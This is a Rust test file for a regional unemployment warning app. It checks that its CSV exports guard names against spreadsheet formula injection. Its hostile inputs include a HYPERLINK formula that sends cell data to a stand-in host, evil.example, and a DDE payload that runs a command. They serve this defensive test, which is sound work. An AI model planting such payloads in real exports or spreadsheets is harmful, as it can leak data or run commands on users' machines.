//! Every CSV export with names a spreadsheet would run as formulas (`=HYPERLINK(…)`, `+`, `-`,
//! `@`, a tab or a carriage return first): the data (monthly figures and events), the audit
//! trail and the what-if comparison. No cell of any export may start a formula, the name must
//! be there behind the guard's `'`, and what the app reads back is what it wrote.
#![cfg(not(target_arch = "wasm32"))]
// Test code stops at the first broken expectation.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use uew::csv;
use uew::i18n::Lang;
use uew::model::{ClosureEvent, Scope};
use uew::month::{Date, Month};
use uew::plan::{Level, Plan};
use uew::response::{Action, ActivationRequest, LaterData, ResponseState, Timestamp};
use uew::rules::Engine;
use uew::scenario::{compare, comparison_csv, Scenario, Tweak};

const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
];

const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cells of a CSV text as a spreadsheet reads them (RFC 4180: quoted fields, doubled
/// quotes, CRLF between rows), without the byte-order mark.
fn cells(text: &str) -> Vec<Vec<String>> {
    let text = text
        .strip_prefix('\u{feff}')
        .expect("exports start with a BOM");
    let mut rows = vec![];
    let mut row = vec![];
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(!quoted && cell.is_empty() && row.is_empty(), "{text:?}");
    rows
}

/// No cell starts a formula, except numbers written as numbers (a negative count or delta).
fn assert_no_formula(text: &str) {
    for (r, row) in cells(text).iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            let number = cell.parse::<f64>().is_ok();
            assert!(
                number || !cell.starts_with(FORMULA_START),
                "row {r}, cell {c}: {cell:?} would run as a formula"
            );
        }
    }
}

/// Whether some cell holds `name` behind the guard.
fn has_guarded(text: &str, name: &str) -> bool {
    let want = format!("'{name}");
    cells(text).iter().flatten().any(|c| c.starts_with(&want))
}

#[test]
fn the_data_export_guards_region_and_enterprise_names_and_reads_them_back() {
    let mut ds = uew::demo::dataset();
    // Regions with figures, so that their names are in the monthly export.
    let with_data: Vec<usize> = (0..ds.regions.len())
        .filter(|&i| ds.observations.iter().any(|o| o.region == ds.regions[i].id))
        .collect();
    assert!(with_data.len() >= HOSTILE.len());
    for (i, name) in HOSTILE.iter().enumerate() {
        // Region names (informative in the monthly export) and enterprise names (events).
        let r = &mut ds.regions[with_data[i]];
        r.name = (*name).to_owned();
        r.name_en = Some((*name).to_owned());
        ds.closures.push(ClosureEvent {
            id: format!("H-{i}"),
            enterprise: (*name).to_owned(),
            industry: (*name).to_owned(),
            street: "xixing".into(),
            date: Date::new(2026, 3, 1).unwrap(),
            unemployed: 10,
        });
    }
    for lang in [Lang::Zh, Lang::En] {
        let monthly = csv::export_monthly(&ds, lang);
        assert_no_formula(&monthly);
        for name in HOSTILE {
            assert!(has_guarded(&monthly, name), "{name:?} in {lang:?}");
        }
        // Read back: every row identical, nothing to change.
        let back = csv::import_monthly(&ds, &monthly);
        assert!(back.errors.is_empty(), "{:?}", back.errors);
        assert!(!back.rows.is_empty());
        assert!(
            back.rows
                .iter()
                .all(|r| r.status == csv::RowStatus::Unchanged),
            "a row changed on reading back"
        );
    }
    let events = csv::export_events(&ds);
    assert_no_formula(&events);
    for name in HOSTILE {
        assert!(has_guarded(&events, name), "{name:?}");
    }
    let back = csv::import_events(&ds, &events);
    assert!(back.errors.is_empty(), "{:?}", back.errors);
    for (i, name) in HOSTILE.iter().enumerate() {
        let row = back
            .rows
            .iter()
            .find(|r| match &r.event {
                csv::EventData::Closure(c) => c.id == format!("H-{i}"),
                csv::EventData::Layoff(_) => false,
            })
            .unwrap();
        match &row.event {
            csv::EventData::Closure(c) => assert_eq!(c.enterprise, name.trim(), "{name:?}"),
            csv::EventData::Layoff(_) => unreachable!(),
        }
    }
}

#[test]
fn the_audit_trail_export_guards_the_names_users_type() {
    let plan = Plan::binjiang_2020();
    let data = uew::demo::dataset();
    let june = Engine::new(&plan, &data).evaluate(&Scope::District, Month::new(2025, 6).unwrap());
    let t = |s: &str| Timestamp::parse_cst(s).unwrap();
    for name in HOSTILE {
        let mut s = ResponseState::new();
        let request = ActivationRequest {
            level: Level::L2,
            approved_by: name.to_owned(),
            approved_at: t("2025-06-23 20:00"),
            level_reached_at: t("2025-06-23 14:00"),
            event_time: None,
            exercise: false,
            scenario: None,
            // As of the time June was the latest month with data.
            later: Some(LaterData::none(Month::new(2025, 6).unwrap())),
            reason: String::new(),
        };
        s.apply(
            Action::activate(&plan, &june, request),
            t("2025-06-23 20:30"),
            name,
        )
        .unwrap();
        for lang in [Lang::Zh, Lang::En] {
            let out = s.audit_csv(lang);
            assert_no_formula(&out);
            // The `by` column holds the name as typed, behind the guard.
            let rows = cells(&out);
            let by = &rows[1][2];
            assert!(by.starts_with('\''), "{by:?}");
            assert!(by.contains(name.trim()), "{by:?} for {name:?}");
        }
    }
}

#[test]
fn the_comparison_export_guards_scenario_names() {
    let plan = Plan::binjiang_2020();
    let data = uew::demo::dataset();
    let scenarios: Vec<Scenario> = HOSTILE
        .iter()
        .take(3)
        .enumerate()
        .map(|(i, name)| {
            let mut s = Scenario::new(i as u32 + 1, name, "2026-11-02T09:00:00+08:00");
            s.tweaks.push(Tweak::Closure {
                enterprise: (*name).to_owned(),
                street: "xixing".into(),
                month: Month::new(2026, 11).unwrap(),
                unemployed: 6_000,
            });
            s
        })
        .collect();
    let refs: Vec<&Scenario> = scenarios.iter().collect();
    let (from, to) = (Month::new(2026, 9).unwrap(), Month::new(2026, 12).unwrap());
    let cmp = compare(&plan, &data, &refs, &Scope::District, from, to).unwrap();
    for lang in [Lang::Zh, Lang::En] {
        let out = comparison_csv(&cmp, lang);
        assert_no_formula(&out);
        let head = &cells(&out)[1];
        for (i, name) in HOSTILE.iter().take(3).enumerate() {
            let cell = &head[3 + i];
            assert!(
                cell.starts_with(&format!("'{}", name.trim())),
                "{cell:?} for {name:?}"
            );
        }
    }
    // The other three names through a second comparison (at most three scenarios at once).
    let more: Vec<Scenario> = HOSTILE
        .iter()
        .skip(3)
        .enumerate()
        .map(|(i, name)| Scenario::new(i as u32 + 10, name, "2026-11-02T09:00:00+08:00"))
        .collect();
    let refs: Vec<&Scenario> = more.iter().collect();
    let cmp = compare(&plan, &data, &refs, &Scope::District, from, to).unwrap();
    let out = comparison_csv(&cmp, Lang::En);
    assert_no_formula(&out);
    for name in HOSTILE.iter().skip(3) {
        assert!(has_guarded(&out, name.trim()), "{name:?}");
    }
}
